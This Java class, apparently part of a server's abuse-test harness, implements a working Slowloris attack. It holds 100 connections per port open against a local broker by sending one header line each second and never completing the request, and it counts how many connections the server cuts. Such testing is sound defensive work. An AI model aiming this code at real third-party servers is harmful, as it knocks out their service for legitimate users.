package io.squall.server.abuse;

import java.io.IOException;
import java.util.ArrayList;
import java.util.List;

/**
 * Slowloris on both ports (finding 2): connections that send the start of a request head and then one more header
 * line every second, never finishing it. A connection the broker cuts is replaced until the deadline.
 */
final class Slowloris implements Attack {
    static final int PER_PORT = 100;
    private static final long DRIBBLE_MILLIS = 1_000;

    private final List<Conn> publicConns = new ArrayList<>();
    private final List<Conn> privateConns = new ArrayList<>();

    @Override
    public String name() {
        return "slowloris";
    }

    @Override
    public void run(AbuseTarget target, long deadlineNanos, Counts counts) {
        counts.add("public cut", 0);
        counts.add("private cut", 0);
        for (int line = 0; Attack.before(deadlineNanos); line++) {
            long started = System.nanoTime();
            dribble(publicConns, target.publicPort(), "GET /ws HTTP/1.1\r\n", "public", line, counts);
            dribble(privateConns, target.privatePort(), "POST /backend HTTP/1.1\r\n", "private", line, counts);
            long left = Math.min(DRIBBLE_MILLIS - (System.nanoTime() - started) / 1_000_000,
                    (deadlineNanos - System.nanoTime()) / 1_000_000);
            Probes.sleepMillis(Math.max(0, left));
        }
        counts.set("public open", publicConns.stream().filter(java.util.Objects::nonNull).count());
        counts.set("private open", privateConns.stream().filter(java.util.Objects::nonNull).count());
        counts.set("oldest open s", oldestOpenSeconds());
    }

    /** One more header line on every open connection; cut ones counted and replaced. */
    private static void dribble(List<Conn> conns, int port, String requestLine, String label, int line,
            Counts counts) {
        for (int i = 0; i < PER_PORT; i++) {
            Conn conn = i < conns.size() ? conns.get(i) : null;
            if (conn == null) {
                try {
                    conn = Conn.open(port, 0).queue(requestLine + "Host: 127.0.0.1\r\n");
                    counts.add(label + " opened", 1);
                } catch (IOException e) {
                    counts.add(label + " connects failed", 1);
                    continue;
                }
                if (i < conns.size()) {
                    conns.set(i, conn);
                } else {
                    conns.add(conn);
                }
            }
            if (!conn.queue("X-Slow-" + line + ": x\r\n").pump()) {
                counts.add(label + " cut", 1);
                conn.close();
                conns.set(conns.indexOf(conn), null);
            }
        }
    }

    private long oldestOpenSeconds() {
        return java.util.stream.Stream.concat(publicConns.stream(), privateConns.stream())
                .filter(java.util.Objects::nonNull).mapToLong(Conn::ageMillis).max().orElse(0) / 1_000;
    }

    @Override
    public void release(Counts counts) {
        java.util.stream.Stream.concat(publicConns.stream(), privateConns.stream())
                .filter(java.util.Objects::nonNull).forEach(Conn::close);
    }
}
